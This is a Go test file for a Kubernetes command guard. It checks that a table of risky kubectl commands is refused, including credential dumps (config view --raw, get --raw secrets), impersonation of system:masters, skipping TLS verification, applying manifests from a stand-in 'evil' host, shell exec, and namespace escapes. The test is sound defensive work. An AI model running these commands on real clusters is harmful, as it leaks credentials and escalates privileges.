//go:build kubernetes

package kubernetes

import (
	"strings"
	"testing"

	"wardroom/internal/errs"
)

// EXECUTION.md 10, one line each. Nothing of it reaches the cluster: it is refused when it is shown and when somebody insists.
func TestRefused(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	for text, reason := range map[string]string{
		"kubectl get pods --kubeconfig=/etc/kube":         "--kubeconfig is refused",
		"kubectl --kubeconfig /etc/kube get pods":         "--kubeconfig is refused",
		"kubectl get pods --server=https://evil":          "--server is refused",
		"kubectl get pods -s https://evil":                "-s is refused",
		"kubectl get pods --token=abc":                    "--token is refused",
		"kubectl get pods --user=admin":                   "--user is refused",
		"kubectl get pods --cluster=other":                "--cluster is refused",
		"kubectl get pods --context=other":                "--context is refused",
		"kubectl get pods --as=wardroom:bo":               "--as is refused",
		"kubectl --as=system:admin get pods":              "--as is refused",
		"kubectl get pods --as-group=system:masters":      "--as-group is refused",
		"kubectl get pods --as-uid=1":                     "--as-uid is refused",
		"kubectl get pods --as-user-extra=a=b":            "--as-user-extra",
		"kubectl get pods --client-certificate=/etc/x":    "--client-certificate is refused",
		"kubectl get pods --client-key=/etc/x":            "--client-key is refused",
		"kubectl get pods --certificate-authority=/etc/x": "--certificate-authority is refused",
		"kubectl get pods --insecure-skip-tls-verify":     "--insecure-skip-tls-verify is refused",
		"kubectl get pods --tls-server-name=evil":         "--tls-server-name is refused",
		"kubectl get pods --cache-dir=/tmp":               "--cache-dir is refused",
		"kubectl get pods --profile=cpu":                  "--profile is refused",
		"kubectl get pods --profile-output=/tmp/x":        "--profile-output is refused",
		"kubectl get pods --kuberc=/tmp/x":                "--kuberc is refused",
		"kubectl get pods -v=6":                           "-v above 5",
		"kubectl get pods --v=9":                          "-v above 5",
		"kubectl apply -k .":                              "-k is refused",
		"kubectl apply -f https://evil/x.yaml":            "fetching https://evil/x.yaml is not permitted",
		"kubectl apply -f /etc/x.yaml":                    "lies outside the run's own folder",
		"kubectl apply -f ../x.yaml":                      "lies outside the run's own folder",
		"kubectl edit deployment orchestrator":            "needs an editor",
		"kubectl proxy":                                   "opens the cluster to others",
		"kubectl config view --raw":                       "--raw",
		"kubectl config view --flatten":                   "it prints credentials",
		"kubectl config use-context x":                    "not permitted in a playbook",
		"kubectl get --raw /api/v1/secrets":               "--raw is refused",
		"kubectl port-forward service/orchestrator 8000":  "opens a listener",
		"kubectl exec -it bare -- sh":                     "terminal",
		"kubectl attach bare":                             "attaches to a running container",
		"kubectl get pods -n elsewhere":                   "permits the namespaces octollm, not elsewhere",
		"kubectl get pods --namespace=kube-system":        "permits the namespaces octollm, not kube-system",
		"kubectl get pods -A":                             "permits the namespaces octollm only",
		"kubectl delete pods --all-namespaces -l app=x":   "permits the namespaces octollm only",
		"KUBECONFIG=/etc/kube kubectl get pods":           "KUBECONFIG",
		"export KUBERC=/etc/kube; kubectl get pods":       "KUBERC",
		"kubectl frobnicate":                              "kubectl frobnicate is not permitted",
		"docker ps":                                       "docker is for docker environments",
	} {
		plan, req := r.plan(t, r.ana, text)
		if !strings.Contains(plan.Refused, reason) {
			t.Errorf("%s: refused %q, not %q", text, plan.Refused, reason)
		}
		if _, _, err := r.Start(as(t, r.ana), req); errs.KindOf(err) != errs.Invalid {
			t.Errorf("%s: %v", text, err)
		}
	}
}
